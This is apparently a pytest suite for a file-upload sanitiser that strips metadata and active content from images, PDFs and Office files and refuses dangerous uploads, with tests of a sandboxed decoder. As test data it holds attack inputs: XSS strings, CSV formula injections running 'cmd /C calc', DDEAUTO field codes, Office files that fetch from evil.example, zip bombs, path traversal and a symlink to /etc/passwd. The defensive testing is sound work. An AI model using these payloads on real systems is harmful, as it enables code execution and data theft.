"""What is taken in comes out clean; what can't be is refused with a sentence that says what to do."""

import contextlib
import posixpath
import re
import socket
import subprocess
import zipfile
from io import BytesIO
from pathlib import Path

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl import load_workbook
from PIL import Image

from waypost.core.errors import Refused
from waypost.files import checks, confined, intake
from waypost.files.confined import Broken, Stopped, fence, work
from waypost.files.intake import LARGEST, SENTENCES, Clean, take_in
from waypost.files.kinds import CSV, DOCX, JPEG, PDF, PNG, TEXT, XLSX, Kind
from waypost.files.tests import corpus

pytestmark = pytest.mark.plain

JS = b"=1;alert(document.domain)//"


def refused(content: bytes, name: str) -> str:
    """The reason for which this is refused."""
    with pytest.raises(Refused) as caught:
        take_in(content, name)
    sentence = str(caught.value.sentence)
    whys = [
        why for why, words in SENTENCES.items() if sentence.endswith(str(words).split("”")[1] % {"most": 25})
    ]
    assert len(whys) == 1, sentence
    return whys[0]


TAKEN: dict[str, tuple[bytes, str, Kind]] = {
    "photograph": (corpus.with_place(), "IMG_0001.JPG", JPEG),
    "drawing": (corpus.picture("PNG"), "map.png", PNG),
    "moving picture": (corpus.picture("GIF"), "moves.gif", PNG),
    "web picture": (corpus.picture("WEBP"), "x.webp", JPEG),
    "scan": (corpus.picture("TIFF"), "scan.tif", JPEG),
    "grey of 16 bits": (corpus.picture("PNG", mode="I;16"), "x.png", PNG),
    "ink colours": (corpus.picture("JPEG", mode="CMYK"), "x.jpg", JPEG),
    "document": (corpus.pdf(), "report.pdf", PDF),
    "active document": (corpus.active_pdf(), "report.pdf", PDF),
    "Word": (corpus.docx(), "letter.docx", DOCX),
    "Excel": (corpus.xlsx(), "table.xlsx", XLSX),
    "text": ("Thai ไทย\r\nline".encode(), "note.txt", TEXT),
    "text of another width": ("Thai ไทย".encode("utf-16"), "note.txt", TEXT),
    "table": (b"place,number\nRanong,-5\nPhuket,+66 (2) 1\n- none; or so,a@b.c\n", "numbers.csv", CSV),
    "a document called a picture": (corpus.pdf(), "holiday.jpg", PDF),
    "a picture called a text": (corpus.picture(), "note.txt", JPEG),
    "a picture with an archive behind it": (
        corpus.picture() + corpus.archive({"evil.js": "x"}),
        "x.jpg",
        JPEG,
    ),
    "a document with an archive behind it": (corpus.pdf() + corpus.archive({"evil.js": "x"}), "x.pdf", PDF),
    "an archive with a document behind it": (corpus.docx() + corpus.pdf(), "x.docx", DOCX),
    "GIF and script at once": (b"GIF89a" + corpus.picture("GIF")[6:] + JS, "x.gif", PNG),
}


@pytest.mark.parametrize("name", TAKEN)
def test_it_is_taken_as_what_it_is(name: str) -> None:
    content, sent_as, kind = TAKEN[name]
    clean = take_in(content, sent_as)
    assert clean.kind == kind
    assert clean.name.endswith(kind.extension)
    assert corpus.SECRET.encode() not in clean.content
    assert JS not in clean.content
    if kind not in (DOCX, XLSX):
        assert not zipfile.is_zipfile(BytesIO(clean.content))
        assert b"PK\x03\x04" not in clean.content


@pytest.mark.parametrize("name", TAKEN)
def test_what_is_clean_stays_as_it_is_when_taken_again(name: str) -> None:
    content, sent_as, kind = TAKEN[name]
    once = take_in(content, sent_as)
    again = take_in(once.content, once.name)
    assert (again.kind, again.name, again.pages, again.width) == (kind, once.name, once.pages, once.width)


BAD: dict[str, tuple[bytes, str, str]] = {
    "nothing": (b"", "x.pdf", "empty"),
    "spaces": (b" \n\n", "x.txt", "empty"),
    "too much": (b"%PDF-1.7" + bytes(LARGEST), "x.pdf", "large"),
    "a program": (b"MZ\x90\x00" + bytes(100), "setup.pdf", "kind"),
    "a page of the web": (b"<!doctype html><script>alert(1)</script>", "x.html", "kind"),
    "a page of the web called text": (b"\n <html><script>alert(1)</script>", "x.txt", "kind"),
    "a drawing that can act": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "x.svg", "kind"),
    "an archive": (corpus.archive({"a.txt": "a"}), "x.zip", "kind"),
    "an archive called Word": (corpus.archive({"a.txt": "a"}), "x.docx", "kind"),
    "half a picture": (corpus.picture(size=(900, 900))[:400], "x.jpg", "broken"),
    "a picture that is a page": (b"GIF89a<script>alert(1)</script>", "x.gif", "broken"),
    "too many pixels": (corpus.huge_picture(), "x.png", "pixels"),
    "locked document": (corpus.locked_pdf(), "x.pdf", "locked"),
    "half locked document": (corpus.half_locked_pdf(), "x.pdf", "locked"),
    "not a document": (b"%PDF-1.7\nnothing", "x.pdf", "broken"),
    "too many pages": (corpus.pdf(pages=501), "x.pdf", "pages"),
    "Word with macros": (corpus.docx(**{"word/vbaProject.bin": b"x"}), "x.docx", "macros"),
    "Word that says it has macros": (
        corpus.docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "x.docx",
        "macros",
    ),
    "Word with another file in it": (corpus.docx(**{"word/embeddings/o.bin": b"x"}), "x.docx", "embedded"),
    "Word with a program in it": (corpus.docx(**{"word/media/run.exe": b"MZ"}), "x.docx", "embedded"),
    "Word with a template elsewhere": (
        corpus.docx(rels=corpus.relation("attachedTemplate", "http://evil.example/t.dotm", outside=True)),
        "x.docx",
        "outside",
    ),
    "Word with a picture elsewhere": (
        corpus.docx(rels=corpus.relation("image", "http://evil.example/p.png", outside=True)),
        "x.docx",
        "outside",
    ),
    "Word with a link to a share": (
        corpus.docx(rels=corpus.relation("hyperlink", "file://evil.example/share", outside=True)),
        "x.docx",
        "outside",
    ),
    "Word that starts a program": (
        corpus.docx(
            "<w:p><w:r><w:fldChar/><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText></w:r></w:p>"
        ),
        "x.docx",
        "embedded",
    ),
    "Word that starts a program in an attribute": (
        corpus.docx('<w:fldSimple w:instr="DDEAUTO c:\\cmd"/>'),
        "x.docx",
        "embedded",
    ),
    "Word with entities": (
        corpus.docx(**{"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}),
        "x.docx",
        "broken",
    ),
    "Word with names that climb": (corpus.docx(**{"../../evil.xml": "<x/>"}), "x.docx", "broken"),
    "Word with two parts of one name": (corpus.docx(**{"Word/Document.xml": "<x/>"}), "x.docx", "broken"),
    "a bomb": (corpus.docx(**{"word/big.xml": b"<x>" + bytes(30_000_000)}), "x.docx", "bomb"),
    "many entries": (corpus.docx(**{f"word/{n}.xml": "<x/>" for n in range(2_100)}), "x.docx", "bomb"),
    "a bomb in a bomb": (
        corpus.docx(**{"word/inner.zip": corpus.archive({"z": bytes(9_000_000)})}),
        "x.docx",
        "embedded",
    ),
    "Excel that asks a server": (
        corpus.xlsx(formula='=WEBSERVICE("http://evil.example")'),
        "x.xlsx",
        "embedded",
    ),
    **{
        f"Word with changes nobody decided on: {change}": (corpus.changed_docx(change), "x.docx", "changes")
        for change in ("inserted", "deleted", "moved", "a paragraph", "a row", "a cell", "a formula")
    },
    "Word with a drawing that fetches": (
        corpus.docx('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/p.png"/>'),
        "x.docx",
        "outside",
    ),
    "Word with a film from elsewhere": (
        corpus.docx('<x:webVideoPr xmlns:x="urn:x" embeddedHtml="x"/>'),
        "x.docx",
        "embedded",
    ),
    "Word with a drawing of another program that holds a photograph": (
        corpus.docx(**{"word/media/p.emf": b"EMF" + corpus.with_place()}),
        "x.docx",
        "embedded",
    ),
    "Excel that fetches a picture": (
        corpus.xlsx(formula='=_xlfn.IMAGE("http://evil.example")'),
        "x.xlsx",
        "embedded",
    ),
    "Excel that asks a server by a name": (
        corpus.xlsx(name='WEBSERVICE("http://evil.example")'),
        "x.xlsx",
        "embedded",
    ),
    "text that is none": (b"\xff\xfe\xfa\xfb\x00", "x.txt", "encoding"),
    "text in an old encoding": ("naïve".encode("latin-1"), "x.txt", "encoding"),
    "text with a NUL": (b"a\x00b", "x.txt", "control"),
    "text for a terminal": (b"\x1b[31m", "x.txt", "control"),
    "text that turns round": ("a\u202eb".encode(), "x.txt", "overrides"),
    "a table that calculates with a sign": (b"a,b\n+cmd|' /C calc'!A0,2\n", "x.csv", "formula"),
    "a table that calls with a sign": (b"a,b\n-HYPERLINK(1),2\n", "x.csv", "formula"),
    "a table with semicolons that calculates": (b"a;b\n1;=cmd|' /C calc'!A0\n", "x.csv", "formula"),
    "a table with tabs that calculates": (b"a\tb\n1\t=1+1\n", "x.csv", "formula"),
    "a table that calculates": (b"a,b\n=cmd|' /C calc'!A0,2\n", "x.csv", "formula"),
}


@pytest.mark.parametrize("name", BAD)
def test_it_is_refused_with_its_own_sentence(name: str) -> None:
    content, sent_as, why = BAD[name]
    assert refused(content, sent_as) == why


def test_every_sentence_is_met() -> None:
    """Every refusal stands in the corpus, but the two that a size or a clock decides."""
    assert set(SENTENCES) - {why for _content, _name, why in BAD.values()} == {"slow", "together"}


def test_what_was_cut_off_on_arrival_is_not_taken() -> None:
    with pytest.raises(Refused, match="together with the others"):
        take_in(corpus.pdf(), "x.pdf", size=10_000_000)


def test_a_photograph_loses_its_place_and_stands_upright() -> None:
    clean = take_in(corpus.with_place(), "IMG.JPG")
    image = Image.open(BytesIO(clean.content))
    assert image.size == (80, 120) == (clean.width, clean.height)
    assert not image.getexif()
    assert "icc_profile" not in image.info
    assert "comment" not in image.info


def test_the_first_frame_stays() -> None:
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    out = BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    image = Image.open(BytesIO(take_in(out.getvalue(), "x.gif").content))
    assert getattr(image, "n_frames", 1) == 1
    assert image.convert("RGB").getpixel((5, 5)) == (255, 0, 0)


ACTIVE = [b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/Launch", b"EMBEDDED", b"/EmbeddedFile", b"/XFA"]
ACTIVE += [
    b"/SubmitForm",
    b"/GoToR",
    b"/ImportData",
    b"javascript:",
    b"file:",
    b"/FileAttachment",
    b"/RichMedia",
    b"/Rendition",
]
ACTIVE += [
    b"/Screen",
    b"/Movie",
    b"/Sound",
    b"/AcroForm",
    b"/Metadata",
    b"evil.example",
    corpus.SECRET.encode(),
]


def _spelt_out(content: bytes) -> bytes:
    out = BytesIO()
    with pikepdf.open(BytesIO(content)) as document:
        document.save(
            out,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
    return out.getvalue()


@pytest.mark.parametrize("word", ACTIVE)
def test_a_document_keeps_nothing_that_acts_or_hides(word: bytes) -> None:
    assert word in _spelt_out(corpus.active_pdf())
    assert word not in _spelt_out(_cleaned_active().content)


def _cleaned_active(seen: dict[str, Clean] = {}) -> Clean:  # noqa: B006  made once
    return seen.setdefault("one", take_in(corpus.active_pdf(), "x.pdf"))


def test_a_document_keeps_its_words_and_links() -> None:
    clean = _cleaned_active()
    assert b"https://example.org" in _spelt_out(clean.content)
    assert "Plain words" in work("pdf.text", clean.content).parts[0][1].decode()
    assert clean.preview is not None
    assert Image.open(BytesIO(clean.preview)).format == "JPEG"


def test_pictures_in_a_document_lose_their_place() -> None:
    with pikepdf.open(BytesIO(corpus.pdf())) as document:
        stream = document.make_stream(corpus.with_place())
        for key, value in (
            ("Type", "XObject"),
            ("Subtype", "Image"),
            ("ColorSpace", "DeviceRGB"),
            ("Filter", "DCTDecode"),
        ):
            stream[f"/{key}"] = pikepdf.Name(f"/{value}")
        stream.Width, stream.Height, stream.BitsPerComponent = 120, 80, 8
        document.pages[0].add_resource(stream, pikepdf.Name.XObject, pikepdf.Name.Photo)
        out = BytesIO()
        document.save(out)
    assert corpus.SECRET.encode() in out.getvalue()
    clean = take_in(out.getvalue(), "x.pdf").content
    assert corpus.SECRET.encode() not in clean
    with pikepdf.open(BytesIO(clean)) as document:
        photo = pikepdf.PdfImage(document.pages[0].Resources.XObject.Photo).as_pil_image()
    assert photo.size == (120, 80)


@pytest.mark.parametrize("place", corpus.PHOTOGRAPHS)
def test_a_photograph_in_a_document_loses_its_place_wherever_it_lies(place: str) -> None:
    document = corpus.with_photograph(place)
    assert corpus.SECRET.encode() in _unpacked(document)
    clean = take_in(document, "x.pdf").content
    assert corpus.SECRET.encode() not in _unpacked(clean)
    assert "Hello" in work("pdf.text", clean).parts[0][1].decode()
    assert take_in(clean, "x.pdf").pages == 1


@pytest.mark.parametrize("place", corpus.SHOWN)
def test_a_photograph_in_a_document_is_still_seen(place: str) -> None:
    """The page looks as it did before: the red of the picture is there."""
    clean = take_in(corpus.with_photograph(place), "x.pdf")
    drawn = Image.open(BytesIO(clean.preview or b"")).convert("RGB")
    colours = drawn.getcolors(drawn.width * drawn.height) or []
    red = sum(n for n, (r, g, b) in colours if r > 180 and g < 80 and b < 80)  # type: ignore[misc]
    assert red > 1_000


def test_a_damaged_photograph_in_a_document_is_refused() -> None:
    """One that we cannot read but a reader's program might is not passed on."""
    assert refused(corpus.with_photograph("damaged"), "x.pdf") == "broken"


def _unpacked(document: bytes) -> bytes:
    """Every stream with all its packings off but those of pictures, whose metadata lie in them plainly."""
    found = [document]
    with pikepdf.open(BytesIO(document)) as opened:
        for each in opened.objects:
            if not isinstance(each, pikepdf.Stream):
                found.append(each.unparse(resolved=True))
                continue
            packings = each.get("/Filter", pikepdf.Array())
            names = list(packings) if isinstance(packings, pikepdf.Array) else [packings]
            simple = [
                name for name in names if str(name) in ("/FlateDecode", "/ASCIIHexDecode", "/AHx", "/Fl")
            ]
            plain = opened.make_stream(each.read_raw_bytes(), Filter=pikepdf.Array(simple))
            found += [
                bytes.fromhex(word.decode()) for word in re.findall(rb"[0-9a-f]{400,}", plain.read_bytes())
            ]
            found.append(plain.read_bytes())
    return b"".join(found)


def test_notes_on_a_document_go_and_what_is_drawn_on_it_stays() -> None:
    clean = take_in(corpus.annotated_pdf(), "x.pdf")
    assert clean.removed == ("comments",)
    with pikepdf.open(BytesIO(clean.content)) as document:
        notes = {str(each.Subtype): each for each in document.pages[0].Annots}
    assert set(notes) == {"/Highlight", "/FreeText", "/Link"}
    assert "/Contents" not in notes["/Highlight"]
    assert str(notes["/FreeText"].Contents) == "To be read"
    assert corpus.SECRET.encode() not in _unpacked(clean.content)
    assert take_in(corpus.pdf(), "x.pdf").removed == ()


def test_word_loses_who_wrote_it_and_keeps_its_words() -> None:
    link = corpus.relation("hyperlink", "https://example.org", outside=True)
    clean = take_in(corpus.docx(rels=link, **{"word/media/p.jpg": corpus.with_place()}), "x.docx")
    with zipfile.ZipFile(BytesIO(clean.content)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert corpus.SECRET.encode() not in everything
    assert b"docProps" not in everything
    assert b"https://example.org" in everything
    assert [page.strip() for _name, page in work("office.text", clean.content).parts] == [b"Hello"]


def everything_in(archive: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(archive)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def leads_somewhere(parts: dict[str, bytes]) -> None:
    """Every relationship inside leads to a part, every part has a type, every id that is used is given."""
    for name, body in parts.items():
        if not name.endswith(".rels"):
            continue
        folder, _slash, of = name.partition("_rels/")
        relations = etree.fromstring(body)
        for each in relations:
            if each.get("TargetMode") != "External":
                target = each.get("Target")
                path = target[1:] if target.startswith("/") else posixpath.normpath(folder + target)
                assert path in parts, f"{name}: {target}"
        given = {each.get("Id") for each in relations}
        used = set(re.findall(rb'r:(?:id|embed)="(\w+)"', parts.get(folder + of.removesuffix(".rels"), b"")))
        assert {each.decode() for each in used} <= given
    types = etree.fromstring(parts["[Content_Types].xml"])
    for each in types:
        assert each.get("PartName", "/[Content_Types].xml")[1:] in parts


def test_word_loses_the_comments_and_whoever_had_a_hand_in_it() -> None:
    clean = take_in(corpus.commented_docx(), "x.docx")
    parts = everything_in(clean.content)
    assert corpus.SECRET.encode() not in b"".join([*parts.values(), *(name.encode() for name in parts)])
    assert clean.removed == ("comments", "history")
    assert set(parts) == {
        *(
            "[Content_Types].xml",
            "_rels/.rels",
            "word/document.xml",
            "word/_rels/document.xml.rels",
            "word/settings.xml",
        ),
    }
    leads_somewhere(parts)
    document = parts["word/document.xml"]
    for kept in (
        b"<w:b/>",
        b'mc:Ignorable="w14"',
        b'xml:space="preserve"',
        b"https://example.org",
        b"w14:paraId",
    ):
        assert kept in document + parts["word/_rels/document.xml.rels"]
    for gone in (b"rsid", b"omment", b"Change", b"perm"):
        assert gone not in document
    assert [page.strip() for _name, page in work("office.text", clean.content).parts] == [b"Hello there\nall"]
    assert take_in(clean.content, "x.docx").removed == ()


def test_a_table_loses_the_comments_and_whoever_had_a_hand_in_it() -> None:
    clean = take_in(corpus.commented_xlsx(), "x.xlsx")
    parts = everything_in(clean.content)
    assert corpus.SECRET.encode() not in b"".join([*parts.values(), *(name.encode() for name in parts)])
    assert clean.removed == ("comments", "history")
    leads_somewhere(parts)
    assert b'paperSize="9"' in parts["xl/worksheets/sheet1.xml"]
    assert b"tabColor" in parts["xl/worksheets/sheet1.xml"]
    assert [page for _name, page in work("office.text", clean.content).parts] == [b"Sheet\nplace\t7"]
    assert load_workbook(BytesIO(clean.content)).active["B1"].value == 7


def test_what_was_taken_out_is_said_with_the_name_of_the_file() -> None:
    said = take_in(corpus.commented_docx(), "letter.docx").said
    assert len(said) == 2
    assert all("“letter.docx”" in str(sentence) for sentence in said)
    assert take_in(corpus.docx(), "letter.docx").said == []


def test_a_table_counts_its_sheets() -> None:
    clean = take_in(corpus.xlsx(sheets=3), "x.xlsx")
    assert clean.pages == 3
    pages = [page.decode() for _name, page in work("office.text", clean.content).parts]
    assert pages == ["Sheet\nplace\t7", "Sheet 1\nwords 1", "Sheet 2\nwords 2"]


@settings(max_examples=25, deadline=None)
@given(st.sampled_from(sorted(TAKEN)), st.data())
def test_nonsense_is_refused_and_never_breaks(name: str, data: st.DataObject) -> None:
    """Whatever is changed in a good file: it is taken, or refused with a sentence; nothing else happens."""
    content = bytearray(TAKEN[name][0])
    for _ in range(data.draw(st.integers(1, 8))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    with contextlib.suppress(Refused):
        take_in(bytes(content), TAKEN[name][1])


# The confined process itself.


@pytest.fixture
def probing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(confined, "_JOBS", "waypost.files.tests")


def test_it_knows_none_of_the_portals_secrets(probing: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WAYPOST_FILE_KEY", "secret")
    seen = (work("probe.surroundings", b"").part("seen") or b"").decode()
    assert "PYTHONPATH" in seen
    assert "WAYPOST" not in seen
    assert "django" not in seen


@pytest.mark.parametrize("work_that", ["slow", "rude"])
def test_what_was_made_before_a_bad_end_is_kept(probing: None, work_that: str) -> None:
    with pytest.raises(Stopped) as caught:
        work(f"probe.{work_that}", b"", seconds=2)
    assert caught.value.made.parts == [("page", b"one")]


@pytest.mark.skipif(fence.version() < 4, reason="this kernel has no Landlock that knows the network")
@pytest.mark.parametrize("what", ["read {data}", "write {data}", "start /bin/true", "call {port}"])
def test_it_reaches_nothing_of_the_portal(probing: None, tmp_path: Path, what: str) -> None:
    held = tmp_path / "file.key"
    held.write_text("secret")
    with socket.create_server(("127.0.0.1", 0)) as server:
        tried = what.format(data=held, port=server.getsockname()[1])
        made = work("probe.curious", tried.encode())
    assert made.parts == [("stopped by", b"PermissionError")]


@pytest.mark.skipif(
    not fence.refuses_calls(), reason="the numbers of the calls of this processor are not known"
)
@pytest.mark.parametrize(
    "what",
    ["shout {port}", "whisper {path}", "stop {pid}", "starve {pid}", "slow {pid}", "breed", "outlive"],
)
def test_it_reaches_nobody_on_the_machine(probing: None, tmp_path: Path, what: str) -> None:
    """What Landlock lets pass: no datagram, no local socket; no signal to another process of the same user, no limit
    on it; nobody who would be left when it is killed.
    """
    path = str(tmp_path / "socket")
    with (
        subprocess.Popen(["/bin/sleep", "60"]) as bystander,
        socket.create_server(path, family=socket.AF_UNIX),
        socket.create_server(("127.0.0.1", 0)) as server,
    ):
        tried = what.format(path=path, port=server.getsockname()[1], pid=bystander.pid)
        made = work("probe.curious", tried.encode())
        alive = bystander.poll() is None
        bystander.kill()
    assert made.parts == [("stopped by", b"PermissionError")]
    assert alive


@pytest.mark.parametrize("work_that", ["busy", "greedy", "talkative"])
def test_it_is_stopped_when_it_takes_too_much(probing: None, work_that: str) -> None:
    with pytest.raises(Stopped):
        work(f"probe.{work_that}", b"", seconds=3)


@pytest.mark.parametrize("work_that", ["forged", "garbled"])
def test_what_it_writes_is_not_trusted(probing: None, work_that: str) -> None:
    """A decoder that was taken over may write what it likes: the portal makes of it a bad end, and nothing else."""
    with pytest.raises((Stopped, Broken)):
        work(f"probe.{work_that}", b"")


def test_its_reasons_have_sentences() -> None:
    """A reason that the confined code gives and nobody put into words would be a defect on the page."""
    folder = Path(intake.__file__).parent / "confined"
    given = {why for path in folder.glob("*.py") for why in re.findall(r'Unfit\("(\w+)"\)', path.read_text())}
    assert given <= set(SENTENCES)


def test_an_archive_with_a_link_in_it_is_broken() -> None:
    """A link that pointed out of the archive would lead whoever unpacks it there."""
    out = BytesIO(corpus.docx())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/media/link.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    assert refused(out.getvalue(), "x.docx") == "broken"


@pytest.mark.parametrize(
    ("answers", "said"),
    [({}, []), ({"version": 0}, ["waypost.W002"]), ({"refuses_calls": False}, ["waypost.W003"])],
)
def test_the_operator_is_told_what_is_not_fenced_off(
    monkeypatch: pytest.MonkeyPatch, answers: dict[str, int], said: list[str]
) -> None:
    for name, answer in ({"version": 4, "refuses_calls": True} | answers).items():
        monkeypatch.setattr(fence, name, lambda answer=answer: answer)
    assert [message.id for message in checks.check_fence()] == said
